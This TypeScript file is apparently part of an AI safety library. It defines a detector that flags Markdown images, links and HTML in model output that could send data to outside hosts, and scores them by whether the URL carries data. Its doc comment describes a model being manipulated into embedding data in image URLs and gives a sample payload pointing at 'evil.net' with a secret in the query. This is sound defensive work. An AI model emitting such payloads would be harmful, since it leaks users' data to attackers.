import type { ScannedText } from "../detectors/scanned-text.ts";
import type { Finding } from "../detectors/finding.ts";
import type { StreamedDetector } from "../stream/streamed-detector.ts";
import { createHostMatcher, type HostMatcher } from "../urls/host-pattern.ts";
import { findLinks, type FoundLink } from "./find-links.ts";
import { openImageFrom } from "./open-image.ts";

/** Options of {@link createExfiltrationDetector}. */
export interface ExfiltrationDetectorOptions {
  /** Hosts that a text may link to and show images of. `.example.org` is the host and all below it. Default none. */
  readonly allowHosts?: readonly string[];
}

/**
 * Finds Markdown and HTML by which a text carries data away when it is shown: an image is fetched without a click, and its URL
 * takes along what a model was made to put into it. Images and HTML are found with score 0.9 whatever their URL, links with
 * 0.7 when the URL carries data and 0.3 when it does not.
 *
 * @throws AgentKitError `definition_invalid` when a host is none.
 * @see OWASP LLM05:2025 (improper output handling), CommonMark 0.31
 *
 * @example
 * ```ts
 * import { createExfiltrationDetector, scanText } from "@agentkit/safety";
 *
 * const exfiltration = createExfiltrationDetector({ allowHosts: ["cdn.example.org"] });
 * const [finding] = exfiltration.detect(scanText("![](https://evil.net/?q=secret)"), { source: "model" });
 * console.log(finding?.category); // exfiltration.image
 * ```
 */
export function createExfiltrationDetector(options: ExfiltrationDetectorOptions = {}): StreamedDetector {
  const isAllowed = createHostMatcher(options.allowHosts ?? []);
  return {
    id: "exfiltration",
    version: "2",
    categories: Object.values(categories),
    detect: (text) => {
      const findings: Finding[] = [];
      // Each URL is let go of at once: they are large, and a text can be full of them.
      for (const link of findLinks(text.normalized)) {
        if (!leadsTo(link, isAllowed)) findings.push(toFinding(text, link));
      }
      return withoutRepeats(findings.toSorted((left, right) => left.start - right.start));
    },
    openFrom: openImageFrom,
  };
}

function leadsTo({ url }: FoundLink, isAllowed: HostMatcher): boolean {
  return url !== undefined && (isAllowed(url.host) || isAllowed(url.hostname));
}

function toFinding(text: ScannedText, link: FoundLink): Finding {
  const [start, end] = text.toOriginal(link.start, link.end);
  return { category: categories[link.kind], rule: link.kind, start, end, score: toScore(link) };
}

const categories = { image: "exfiltration.image", link: "exfiltration.link", html: "exfiltration.html" } as const;

/** A tag with several URLs, or with one in its style, is one finding. */
function withoutRepeats(findings: readonly Finding[]): readonly Finding[] {
  let tagEnd = 0;
  return findings.filter(({ rule, end }) => {
    if (rule !== "html") return true;
    const isNew = end > tagEnd;
    tagEnd = Math.max(tagEnd, end);
    return isNew;
  });
}

function toScore({ kind, url }: FoundLink): number {
  if (kind !== "link") return 0.9;
  return url === undefined || carriesData(url) ? 0.7 : 0.3;
}

/** A query, a user name, or a part that no person named: long, or of the characters of an encoding. */
function carriesData({ search, hash, username, pathname, hostname }: URL): boolean {
  if (search.length > 1 || username !== "" || hash.length > 40) return true;
  // Most have no part that is long enough.
  if (!/[^/.]{24}/.test(`${hostname}/${pathname}`)) return false;
  const parts = [...pathname.split("/"), ...hostname.split(".")];
  return parts.some((part) => part.length > 64 || /^(?=\D*\d)[A-Za-z0-9+_=]{24,}$/.test(part));
}
